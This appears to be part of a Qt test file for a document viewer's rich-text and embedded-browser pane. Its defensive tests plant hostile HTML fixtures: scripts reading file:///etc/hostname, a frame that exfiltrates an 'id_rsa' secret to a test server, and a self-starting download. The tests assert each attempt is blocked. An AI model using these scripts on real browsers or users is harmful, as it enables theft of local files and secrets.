        QVERIFY2(lines[i].endsWith(shown[i].mid(lead.size() + 1)), qPrintable(shown[i]));
        QVERIFY(shown[i].size() < lines[i].size());
    }
    if (pinned.size() > 100)
        QVERIFY(shown[0] != lines[0]);
}

int main(int argc, char *argv[])
{
    // The same environment the test runner sets, so the binary also runs on its own.
    if (qEnvironmentVariableIsEmpty("QT_QPA_PLATFORM"))
        qputenv("QT_QPA_PLATFORM", "offscreen");
    if (qEnvironmentVariableIsEmpty("QTWEBENGINE_CHROMIUM_FLAGS"))
        qputenv("QTWEBENGINE_CHROMIUM_FLAGS", "--disable-gpu --no-sandbox");
    if (::geteuid() == 0)
        qputenv("QTWEBENGINE_DISABLE_SANDBOX", "1");
    QCoreApplication::setAttribute(Qt::AA_ShareOpenGLContexts);
    QApplication app(argc, argv);
    QApplication::setApplicationDisplayName(QStringLiteral("Varimond"));
    TestDocs test;
    return QTest::qExec(&test, argc, argv);
}

#include "tst_docs.moc"

void TestDocs::noFormattingCarriesOver_data()
{
    QTest::addColumn<QString>("next"); // the document shown after a formatted RTF heading
    QTest::addColumn<QString>("text");
    QTest::newRow("plain text") << QStringLiteral("Plain.txt") << QStringLiteral("plain words");
    QTest::newRow("missing file") << QStringLiteral("Gone.txt")
                                  << QStringLiteral("Could not find file ...");
}

void TestDocs::noFormattingCarriesOver()
{
    QFETCH(QString, next);
    QFETCH(QString, text);
    writeFile(base() + QStringLiteral("Heading.rtf"),
              "{\\rtf1\\deftab2000{\\fonttbl{\\f0 Courier New;}}{\\colortbl;\\red255\\green0"
              "\\blue0;}\\f0\\b\\i\\fs32\\cf1\\qc Heading}");
    writeFile(base() + QStringLiteral("Plain.txt"), "plain words\tand a tab");
    auto pane = makePane();
    QTextBrowser *view = pane->RichEdit();
    pane->DisplayFName(base(), QStringLiteral("Heading.rtf"), QString(), QString());
    QCOMPARE(QTextCursor(view->document()).block().charFormat().fontPointSize(), 0.0);
    QTextCursor heading(view->document());
    heading.setPosition(1);
    QVERIFY(heading.charFormat().fontItalic());

    pane->DisplayFName(base(), next, QString(), QString());

    QTextDocument *doc = view->document();
    QVERIFY(doc->toPlainText().startsWith(text));
    QCOMPARE(doc->defaultFont(), view->font());
    QCOMPARE(doc->defaultTextOption().tabStopDistance(),
             QTextDocument().defaultTextOption().tabStopDistance());
    for (int at : {1, 5}) {
        QTextCursor c(doc);
        c.setPosition(at);
        const QTextCharFormat f = c.charFormat();
        QVERIFY(!f.hasProperty(QTextFormat::FontWeight) || f.fontWeight() == QFont::Normal);
        QVERIFY(!f.fontItalic());
        QVERIFY(!f.hasProperty(QTextFormat::FontPointSize));
        QVERIFY(!f.hasProperty(QTextFormat::FontFamilies));
        QVERIFY(!f.hasProperty(QTextFormat::ForegroundBrush));
        QCOMPARE(c.blockFormat().alignment() & Qt::AlignHorizontal_Mask, Qt::AlignLeft);
    }
    // Laid out in the view's own font.
    QCOMPARE(
        QFontInfo(QTextCursor(doc).charFormat().font().resolve(doc->defaultFont())).pointSizeF(),
        QFontInfo(view->font()).pointSizeF());
}

void TestDocs::longRunsGetBreaks_data()
{
    QTest::addColumn<QString>("name");
    QTest::addColumn<QByteArray>("bytes");
    QTest::addColumn<QString>("shown"); // the text, whatever breaks the pane adds
    const QByteArray run = QByteArray(200000, 'x') + "0123456789abcdef";
    QTest::newRow("plain text") << QStringLiteral("Dump.txt") << QByteArray("head " + run + " tail")
                                << QString::fromLatin1("head " + run + " tail");
    QTest::newRow("rich text") << QStringLiteral("Dump.rtf")
                               << QByteArray("{\\rtf1 {\\b head} " + run + "\\par tail}")
                               << QString::fromLatin1("head " + run + "\ntail");
    // A letter outside the basic plane and a letter with a combining accent.
    const QString emoji = QString::fromUtf8("\xF0\x9D\x90\x80"
                                            "e\xCC\x81");
    QTest::newRow("pairs and marks kept whole")
        << QStringLiteral("Emoji.txt") << emoji.repeated(3000).toUtf8() << emoji.repeated(3000);
    QTest::newRow("ordinary words untouched")
        << QStringLiteral("Words.txt") << QByteArray("word ").repeated(40000)
        << QStringLiteral("word ").repeated(40000);
}

void TestDocs::longRunsGetBreaks()
{
    QFETCH(QString, name);
    QFETCH(QByteArray, bytes);
    QFETCH(QString, shown);
    writeFile(base() + name, bytes);
    auto pane = makePane();
    pane->DisplayFName(base(), name, QString(), QString());
    QTextBrowser *view = pane->RichEdit();

    const QString text = view->toPlainText();
    const bool words = name == QLatin1String("Words.txt");
    QCOMPARE(text.contains(QChar(0x200B)), !words);
    QCOMPARE(QString(text).remove(QChar(0x200B)), shown);
    for (int i = text.indexOf(QChar(0x200B)); i >= 0; i = text.indexOf(QChar(0x200B), i + 1)) {
        QVERIFY(!text[i - 1].isHighSurrogate());
        QVERIFY(!text[i + 1].isMark());
    }
    // The layout finishes and wraps the run into many lines.
    QVERIFY(view->document()->size().height() > 100);
    // A copy is the text as written.
    view->selectAll();
    view->copy();
    QCOMPARE(QGuiApplication::clipboard()->text(), shown);
}

void TestDocs::localPageHasNoLocalRights()
{
    // A ReadMe page whose script tries to read a local file, by fetch and by XMLHttpRequest,
    // and reports what it got in the title; the page's own image and style sheet and an image
    // from the web load.
    writeFile(base() + QStringLiteral("pic.png"), pngImage());
    writeFile(base() + QStringLiteral("style.css"), "body { color: rgb(1, 2, 3); }");
    const QString page =
        QStringLiteral(
            "<html><head><title></title><link rel=stylesheet href='style.css'></head><body>"
            "<script>"
            "const image = src => new Promise(r => { const i = new Image();"
            "  i.onload = () => r('ok'); i.onerror = () => r('failed'); i.src = src; });"
            "const viaFetch = fetch('file:///etc/hostname').then(r => r.text())"
            "  .then(t => 'read ' + t, () => 'blocked');"
            "const viaXhr = new Promise(r => { try { const x = new XMLHttpRequest();"
            "  x.open('GET', 'file:///etc/hostname'); x.onload = () => r('read ' + x.responseText);"
            "  x.onerror = () => r('blocked'); x.send(); } catch (e) { r('blocked'); } });"
            "window.onload = () => Promise.all([viaFetch, viaXhr, image('pic.png'), image('%1'),"
            "  getComputedStyle(document.body).color]).then(v => { document.title = v.join('|'); "
            "});"
            "</script></body></html>")
            .arg(m_server->url(QStringLiteral("/pic.png")));
    writeFile(base() + QStringLiteral("Hostile.html"), page.toUtf8());
    auto pane = makePane();

    pane->DisplayFName(base(), QString(), QStringLiteral("Hostile.html"), QString());

    QWebEngineView *browser = pane->WebBrowser();
    QVERIFY(browser);
    QTRY_VERIFY_WITH_TIMEOUT(browser->title().contains(QLatin1Char('|')), HangMs);
    QCOMPARE(browser->title(), QStringLiteral("blocked|blocked|ok|ok|rgb(1, 2, 3)"));
    QCOMPARE(m_server->hits(QStringLiteral("/pic.png")), 1);
}

void TestDocs::pageReadsNoFrameAndStays()
{
    // A ReadMe page puts a file of its own folder in a frame (a hard link to a secret kept
    // elsewhere), reports to the server whether it could read it, then moves the view by script.
    QTemporaryDir home;
    writeFile(home.filePath(QStringLiteral("id_rsa")), "SECRET");
    QCOMPARE(::link(QFile::encodeName(home.filePath(QStringLiteral("id_rsa"))).constData(),
                    QFile::encodeName(base() + QStringLiteral("key.txt")).constData()), 0);
    writeFile(base() + QStringLiteral("Frame.html"),
              QStringLiteral("<html><body><iframe id=f src='key.txt'></iframe><script>"
                             "window.onload = () => { let t = '';"
                             "  try { t = document.getElementById('f').contentDocument.body"
                             "    .innerText; } catch (e) {}"
                             "  new Image().src = '%1' + (t ? 'leak?' + t : 'clean');"
                             "  location.href = '%2'; };</script></body></html>")
                  .arg(m_server->url(QStringLiteral("/")), m_server->url(QStringLiteral("/b")))
                  .toUtf8());
    auto pane = makePane();
    pane->DisplayFName(base(), QString(), QStringLiteral("Frame.html"), QString());
    QWebEngineView *browser = pane->WebBrowser();
    QSignalSpy refused(browser->page(), SIGNAL(navigationRefused(QUrl)));

    const auto reported = [this] {
        return m_server->hits(QStringLiteral("/leak")) + m_server->hits(QStringLiteral("/clean"));
    };
    QTRY_VERIFY_WITH_TIMEOUT(reported() > 0 && (refused.count() > 0 ||
                                                 m_server->hits(QStringLiteral("/b")) > 0),
                             60000);
    QCOMPARE(m_server->hits(QStringLiteral("/leak")), 0);
    QCOMPARE(m_server->hits(QStringLiteral("/b")), 0);
    QCOMPARE(browser->url().fileName(), QStringLiteral("Frame.html"));
}

void TestDocs::onlyWebAddressesOpen_data()
{
    QTest::addColumn<QString>("address");
    QTest::addColumn<bool>("opens");
    QTest::newRow("http") << QStringLiteral("http") << true;
    QTest::newRow("file address") << QStringLiteral("file:///etc/hostname") << false;
    QTest::newRow("local path") << QStringLiteral("/etc/hostname") << false;
    QTest::newRow("javascript") << QStringLiteral("javascript:document.title='x'") << false;
    QTest::newRow("data") << QStringLiteral("data:text/html,<title>x</title>") << false;
    QTest::newRow("ftp") << QStringLiteral("ftp://127.0.0.1/x") << false;
}

void TestDocs::onlyWebAddressesOpen()
{
    QFETCH(QString, address);
    QFETCH(bool, opens);
    if (address == QLatin1String("http"))
        address = m_server->url(QStringLiteral("/a"));
    auto pane = makePane();

    pane->DisplayFName(base(), QStringLiteral("ReadMe.txt"), QString(), address);

    // The buttons and the home page follow the address as before; only the showing differs.
    QCOMPARE(visibleButtons(pane.get()), 5);
    QCOMPARE(pane->HomeFName(), address);
    QCOMPARE(browserInFront(pane.get()), opens);
    QCOMPARE(textInFront(pane.get()), !opens);
    if (opens) {
        QTRY_COMPARE_WITH_TIMEOUT(pane->WebBrowser()->title(), QStringLiteral("Page A"), HangMs);
        return;
    }
    QVERIFY(!pane->WebBrowser());
    // Home does not open another scheme either (a local path is the home an HTML name sets).
    if (address.startsWith(QLatin1Char('/')))
        return;
    button(pane.get(), "sbtnHome")->click();
    QVERIFY(!pane->WebBrowser());
}

void TestDocs::localRequests_data()
{
    QTest::addColumn<QString>("page");    // relative to the temporary folder, or a web address
    QTest::addColumn<QString>("request"); // likewise
    QTest::addColumn<int>("type");
    QTest::addColumn<bool>("allowed");
    using I = QWebEngineUrlRequestInfo;
    const QString page = QStringLiteral("Opt/Page.html");
    // clang-format off
    QTest::newRow("image beside")        << page << "Opt/pic.png"       << int(I::ResourceTypeImage) << true;
    QTest::newRow("style sheet below")   << page << "Opt/css/s.css"     << int(I::ResourceTypeStylesheet) << true;
    QTest::newRow("script beside")       << page << "Opt/s.js"          << int(I::ResourceTypeScript) << true;
    QTest::newRow("frame beside")        << page << "Opt/pic.png"       << int(I::ResourceTypeSubFrame) << false;
    QTest::newRow("fetch beside")        << page << "Opt/ReadMe.txt"    << int(I::ResourceTypeXhr) << false;
    QTest::newRow("worker beside")       << page << "Opt/s.js"          << int(I::ResourceTypeWorker) << false;
    QTest::newRow("image above")         << page << "top.png"           << int(I::ResourceTypeImage) << false;
    QTest::newRow("image elsewhere")     << page << "/etc/hostname"     << int(I::ResourceTypeImage) << false;
    QTest::newRow("dot-dot escape")      << page << "Opt/../top.png"    << int(I::ResourceTypeImage) << false;
    QTest::newRow("link leading out")    << page << "Opt/link.png"      << int(I::ResourceTypeImage) << false;
    QTest::newRow("sibling folder name") << page << "Opt2/pic.png"      << int(I::ResourceTypeImage) << false;
    QTest::newRow("page itself")         << page << "/etc/hostname"     << int(I::ResourceTypeMainFrame) << true;
    QTest::newRow("web image")           << page << "http://127.0.0.1/p.png" << int(I::ResourceTypeImage) << true;
    QTest::newRow("web page embeds file") << "http://127.0.0.1/a" << "Opt/pic.png" << int(I::ResourceTypeImage) << false;
    // clang-format on
}

void TestDocs::localRequests()
{
    QFETCH(QString, page);
    QFETCH(QString, request);
    QFETCH(int, type);
    QFETCH(bool, allowed);
    const QString root = m_dir->path() + QLatin1Char('/');
    for (const char *name : {"Opt/pic.png", "Opt/css/s.css", "Opt/s.js", "top.png", "Opt2/pic.png"})
        writeFile(root + QLatin1String(name), "x");
    QVERIFY(QFile::link(root + QStringLiteral("top.png"), root + QStringLiteral("Opt/link.png")));
    const auto url = [&root](const QString &s) {
        return s.startsWith(QLatin1String("http")) ? QUrl(s)
               : s.startsWith(QLatin1Char('/'))    ? QUrl::fromLocalFile(s)
                                                   : QUrl::fromLocalFile(root + s);
    };
    QCOMPARE(DocumentPane::allowsLocalRequest(url(page), url(request), type), allowed);
}

void TestDocs::pageStartsNoDownload()
{
    // A page that starts a download by itself as soon as it loads.
    writeFile(base() + QStringLiteral("Download.html"),
              "<html><head><title>Download</title></head><body><a id=d download=x.bin "
              "href='data:application/octet-stream,secret'>x</a><script>"
              "document.getElementById('d').click();</script></body></html>");
    auto pane = makePane();
    pane->DisplayFName(base(), QString(), QStringLiteral("Before.txt"), QString());
    QWebEngineView *browser = pane->WebBrowser();
    QVERIFY(browser);
    QList<QPointer<QWebEngineDownloadRequest>> seen;
    connect(browser->page()->profile(), &QWebEngineProfile::downloadRequested, this,
            [&seen](QWebEngineDownloadRequest *download) { seen.append(download); });

    pane->DisplayFName(base(), QString(), QStringLiteral("Download.html"), QString());

    QTRY_COMPARE_WITH_TIMEOUT(seen.size(), 1, HangMs);
    QVERIFY(seen.first());
    QCOMPARE(seen.first()->state(), QWebEngineDownloadRequest::DownloadCancelled);
    QVERIFY(!QFile::exists(base() + QStringLiteral("x.bin")));
}
